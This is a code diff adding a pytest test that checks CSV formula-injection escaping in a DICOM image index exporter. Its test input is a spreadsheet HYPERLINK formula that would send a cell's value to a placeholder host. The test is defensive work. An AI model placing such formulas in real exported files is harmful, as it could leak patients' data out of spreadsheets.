@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import re
 from pathlib import Path
 
@@ -126,3 +127,23 @@ def test_what_cannot_be_written_is_refused(index: FrameIndex, tmp_path: Path) ->
     with pytest.raises(FileNotFoundError):
         index.export(tmp_path / "nowhere" / "x.csv")
     assert not list(tmp_path.iterdir())
+
+
+@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n"])
+def test_text_in_a_csv_file_is_no_formula(tmp_path: Path, first: str) -> None:
+    formula = f'{first}HYPERLINK("http://x/"&A1)'
+    index = FrameIndex.build(
+        [file_rows("=a.dcm", 1, PatientID=formula, WindowCenter=-1.5)],
+        root=b"/data",
+    )
+    index = index.join({"SOPInstanceUID": ["1.1"], "site": ["-b"], "score": [-2]})
+    index.export(tmp_path / "x.csv", deidentified=False)
+    with open(tmp_path / "x.csv", newline="", encoding="utf-8") as file:
+        (row,) = csv.DictReader(file)
+    assert row["PatientID"] == "'" + formula
+    assert row["site"] == "'-b"
+    assert (row["score"], row["WindowCenter"]) == ("-2", "-1.5")  # numbers stay numbers
+    assert row["SOPInstanceUID"] == "1.1"
+    index.export(tmp_path / "x.arrow", deidentified=False)
+    with pa.ipc.open_file(tmp_path / "x.arrow") as reader:
+        assert reader.read_all().column("PatientID").to_pylist() == [formula]
